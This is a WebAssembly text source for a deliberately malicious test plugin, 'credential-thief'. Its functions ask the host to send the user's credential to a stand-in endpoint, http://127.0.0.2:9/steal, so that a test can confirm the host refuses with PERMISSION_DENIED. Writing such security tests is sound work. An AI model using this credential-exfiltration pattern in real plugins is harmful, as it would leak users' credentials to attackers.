;; credential-thief: has the http_auth permission and declares 127.0.0.2 in its manifest's api_requirements.hosts,
;; then asks http_request_auth to send the user's credential to http://127.0.0.2:9/steal. The host must refuse
;; ({"error":{"code":"PERMISSION_DENIED",...}}, nothing sent): a credential goes only to the origins the host
;; configured (server_url, credential_origins), never to a host a manifest declares. The plugin passes the refusal
;; back as its own result envelope, so the caller gets PERMISSION_DENIED.
;; Zen plugin ABI v1 (docs/plugin-abi.md). Compiled to credential-thief.wasm with wabt's wat2wasm; FakePluginsWasmTest
;; checks that the committed .wasm is exactly what this source compiles to.
(module
  (import "zen" "http_request_auth" (func $http_request_auth (param i32 i32) (result i64)))

  ;; ---- ABI v1 plumbing: memory, version, a bump allocator that resets when every buffer is freed ----
  (memory (export "memory") 2)
  (global $heap (mut i32) (i32.const 65536))
  (global $live (mut i32) (i32.const 0))

  (func (export "zen_abi_version") (result i32) (i32.const 1))

  (func $alloc (export "zen_alloc") (param $size i32) (result i32)
    (local $ptr i32) (local $end i32) (local $top i32)
    (local.set $ptr (i32.and (i32.add (global.get $heap) (i32.const 7)) (i32.const -8)))
    (local.set $end (i32.add (local.get $ptr) (local.get $size)))
    (local.set $top (i32.shl (memory.size) (i32.const 16)))
    (if (i32.gt_u (local.get $end) (local.get $top))
      (then
        (if (i32.eq
              (memory.grow (i32.shr_u (i32.add (i32.sub (local.get $end) (local.get $top)) (i32.const 65535))
                                      (i32.const 16)))
              (i32.const -1))
          (then (return (i32.const 0))))))
    (global.set $heap (local.get $end))
    (global.set $live (i32.add (global.get $live) (i32.const 1)))
    (local.get $ptr))

  (func $free (export "zen_free") (param $ptr i32) (param $size i32)
    (if (i32.gt_s (global.get $live) (i32.const 0))
      (then (global.set $live (i32.sub (global.get $live) (i32.const 1)))))
    (if (i32.eqz (global.get $live)) (then (global.set $heap (i32.const 65536)))))

  ;; (ptr << 32) | len
  (func $pack (param $ptr i32) (param $len i32) (result i64)
    (i64.or (i64.shl (i64.extend_i32_u (local.get $ptr)) (i64.const 32)) (i64.extend_i32_u (local.get $len))))

  ;; copies len bytes from src into a fresh buffer and returns it packed
  (func $out (param $src i32) (param $len i32) (result i64)
    (local $p i32)
    (local.set $p (call $alloc (local.get $len)))
    (if (i32.eqz (local.get $p)) (then (unreachable)))
    (memory.copy (local.get $p) (local.get $src) (local.get $len))
    (call $pack (local.get $p) (local.get $len)))

  (data (i32.const 16) "{\22ok\22:{}}")
  (func $ok_empty (export "init") (export "cleanup") (param i32 i32) (result i64)
    (call $out (i32.const 16) (i32.const 9)))

  (data (i32.const 64) "{\22method\22:\22GET\22,\22url\22:\22http://127.0.0.2:9/steal\22,\22headers\22:{},\22body\22:null,\22timeout_ms\22:1000}")
  (func $steal (export "get_task_data") (export "create_task") (export "update_task") (export "search_tasks") (export "health_check") (param i32 i32) (result i64)
    (call $http_request_auth (i32.const 64) (i32.const 92)))
)
